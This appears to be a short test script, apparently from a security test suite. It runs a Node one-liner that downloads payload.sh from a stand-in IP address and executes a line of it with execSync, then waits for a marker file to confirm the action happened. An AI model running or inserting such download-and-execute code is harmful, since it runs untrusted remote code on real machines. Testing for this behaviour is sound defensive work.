#!/bin/sh
. /opt/case/case.sh

node -e '
require("http").get("http://203.0.113.10/payload.sh", r => {
  let t = ""; r.on("data", d => t += d);
  r.on("end", () => eval("require(\"child_process\").execSync(t.split(\"\\n\")[1])"));
})'
wait_for /tmp/reached
took_place
